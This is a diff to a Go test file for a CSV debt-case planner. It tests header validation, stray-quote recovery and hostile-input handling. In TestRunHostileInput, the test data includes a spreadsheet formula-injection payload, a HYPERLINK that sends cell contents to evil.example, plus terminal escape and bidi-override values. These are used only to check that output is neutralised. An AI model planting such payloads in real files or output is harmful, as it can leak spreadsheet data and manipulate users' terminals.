@@ -3,6 +3,10 @@ package main
 import (
 	"bytes"
 	"encoding/csv"
+	"errors"
+	"io"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -123,10 +127,155 @@ func TestRunSample(t *testing.T) {
 	}
 }
 
-// TestRunHeader rejects a file without the required columns.
+// TestRunHeader: a file whose header cannot be used is refused as a whole,
+// with an error wrapping errHeader that says what is wrong and, for the
+// usual mistakes, what to do.
 func TestRunHeader(t *testing.T) {
+	all := strings.Join(columns, ",")
+	for _, c := range []struct{ in, want string }{
+		{"case_id,country\nA,BE\n", `header: line 1: missing columns "debtor_name", "debtor_kind", `},
+		{"", "header: no header line (the file is empty or holds only comments)"},
+		{"# only a comment\n\n", "header: no header line"},
+		{"# c\n" + all + ",principal\n", `header: line 2: column "principal" appears twice (fields 10 and 29)`},
+		{strings.ReplaceAll(all, ",", ";") + "\n", "(the header is one field holding semicolons: save the file comma-separated)"},
+		{`"case_id,` + all + "\n", "header: line 1: malformed CSV: field 1: its opening quote is not closed on this line"},
+	} {
+		var out, errw bytes.Buffer
+		_, err := run(strings.NewReader(c.in), &out, &errw, sampleAsOf)
+		if !errors.Is(err, errHeader) || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%.30q: err %v, want errHeader and %q", c.in, err, c.want)
+		}
+	}
+}
+
+// sampleGood returns the good rows of the shipped sample, which all plan
+// (TestRunSample), in the order of columns: the generator marks each
+// malformed row by an X after its case_id (generateSample).
+func sampleGood(t testing.TB) [][]string {
+	t.Helper()
+	r := csv.NewReader(bytes.NewReader(sample))
+	r.Comment = '#'
+	recs, err := r.ReadAll()
+	if err != nil || strings.Join(recs[0], ",") != strings.Join(columns, ",") {
+		t.Fatalf("the sample does not read: %v", err)
+	}
+	var good [][]string
+	for _, rec := range recs[1:] {
+		if !strings.HasSuffix(rec[0], "X") {
+			good = append(good, rec)
+		}
+	}
+	if len(good) != 300 {
+		t.Fatalf("%d good rows in the sample, want 300", len(good))
+	}
+	return good
+}
+
+// encode writes the rows as CSV lines (LF), quoting as encoding/csv does.
+func encode(rows ...[]string) string {
+	var b strings.Builder
+	w := csv.NewWriter(&b)
+	_ = w.WriteAll(rows)
+	return b.String()
+}
+
+// with returns a copy of row with the named columns set.
+func with(row []string, colVals ...string) []string {
+	out := slices.Clone(row)
+	for i := 0; i < len(colVals); i += 2 {
+		out[slices.Index(columns, colVals[i])] = colVals[i+1]
+	}
+	return out
+}
+
+// TestRunStrayQuote is the case of the hardening issue: one stray quote
+// used to swallow the rest of the file ("0 planned, 1 skipped"). Now it
+// costs its own row: the row is reported by its line, and the 299 rows
+// after it are planned.
+func TestRunStrayQuote(t *testing.T) {
+	good := sampleGood(t)
+	header := strings.Join(columns, ",") + "\n"        // line 1
+	first := strings.TrimSuffix(encode(good[0]), "\n") // C00001,NL,Inge El Amrani,…,  (its last field is empty)
+	for _, c := range []struct{ line, why string }{
+		// A quote that never closes, at the start of the row.
+		{`"` + first, "field 1 (case_id): its opening quote is not closed on this line (a field cannot span lines)"},
+		// A quote that never closes, in the last (empty) field.
+		{first + `"`, "field 28 (insolvency_events): its opening quote is not closed on this line (a field cannot span lines)"},
+		// ,"NL," Inge…: a quoted field closes in the middle of the next one.
+		{strings.Replace(first, ",", `,"`, 2), "field 2 (country): text after its closing quote (write a quote inside a quoted field twice)"},
+		// A quote in the middle of a name.
+		{strings.Replace(first, "Inge", `In"ge`, 1), `field 3 (debtor_name): a quote inside an unquoted field (quote the whole field and write the quote twice: "a""b")`},
+	} {
+		in := header + c.line + "\n" + encode(good[1:]...) // line 2, then lines 3-301
+		var errw bytes.Buffer
+		st, err := run(strings.NewReader(in), io.Discard, &errw, sampleAsOf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if st.planned != 299 || st.skipped != 1 {
+			t.Errorf("%s: planned %d, skipped %d; want 299, 1", c.why, st.planned, st.skipped)
+		}
+		if want := "line 2: skipped: malformed CSV: " + c.why + "\n"; errw.String() != want {
+			t.Errorf("stderr %q, want %q", errw.String(), want)
+		}
+	}
+}
+
+// TestRunHostileInput plans rows whose text would run as a formula in a
+// spreadsheet, and rows whose bad values hold terminal escape codes, in an
+// Excel-style file (UTF-8 BOM, CRLF). The formula cells come out with a
+// leading quote and the amounts untouched; the messages on stderr carry the
+// escapes as text.
+func TestRunHostileInput(t *testing.T) {
+	good := sampleGood(t)
+	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+31 6 1234", "-Jan-", "@SUM(1+1)", "Jan \x1b[2J Peeters"}
+	rows := [][]string{columns}
+	for i, n := range names {
+		rows = append(rows, with(good[i], "debtor_name", n, "case_id", "="+good[i][0]))
+	}
+	rows = append(rows,
+		with(good[10], "country", "\x1b]0;pwned\x07\u009b31mBE"), // line 7: OSC, BEL and a C1 CSI in a value quoted as it is
+		with(good[11], "due_date", "\u202e2025-01-01\xff"),       // line 8: a bidi override and a byte that is not UTF-8
+	)
+	in := utf8BOM + strings.ReplaceAll(encode(rows...), "\n", "\r\n")
 	var out, errw bytes.Buffer
-	if _, err := run(strings.NewReader("case_id,country\nA,BE\n"), &out, &errw, sampleAsOf); err == nil || !strings.Contains(err.Error(), "missing column") {
-		t.Errorf("err %v, want a missing column", err)
+	st, err := run(strings.NewReader(in), &out, &errw, sampleAsOf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.planned != len(names) || st.skipped != 2 {
+		t.Errorf("planned %d, skipped %d; want %d, 2\n%s", st.planned, st.skipped, len(names), errw.String())
+	}
+	recs, err := csv.NewReader(&out).ReadAll()
+	if err != nil || len(recs) != len(names)+1 {
+		t.Fatalf("output: %d records, %v", len(recs), err)
+	}
+	col := func(rec []string, name string) string { return rec[slices.Index(outColumns, name)] }
+	for i, rec := range recs[1:] {
+		wantName := "'" + names[i]
+		if !strings.ContainsAny(names[i][:1], "=+-@") {
+			wantName = names[i] // starts with a letter: as it is (the ESC is no formula)
+		}
+		if col(rec, "debtor") != wantName || col(rec, "case_id") != "'="+good[i][0] {
+			t.Errorf("row %d: debtor %q case_id %q; want %q and '=%s", i+1, col(rec, "debtor"), col(rec, "case_id"), wantName, good[i][0])
+		}
+		if o := col(rec, "outstanding"); o == "" || o[0] == '\'' {
+			t.Errorf("row %d: outstanding %q, want a number", i+1, o)
+		}
+		if col(rec, "line") != strconv.Itoa(i+2) {
+			t.Errorf("row %d: line %q, want %d", i+1, col(rec, "line"), i+2)
+		}
+	}
+	msg := errw.String()
+	for _, want := range []string{
+		`line 7: skipped: country: invalid input: Country = \x1b]0;pwned\a\u009b31mBE`,
+		`line 8: skipped: due_date: want a calendar day YYYY-MM-DD, got "\u202e2025-01-01\xff"`,
+	} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("stderr lacks %q:\n%s", want, msg)
+		}
+	}
+	if i := strings.IndexFunc(msg, func(r rune) bool { return r != '\n' && !strconv.IsPrint(r) }); i >= 0 {
+		t.Errorf("stderr holds an unprintable rune at %d: %q", i, msg)
 	}
 }
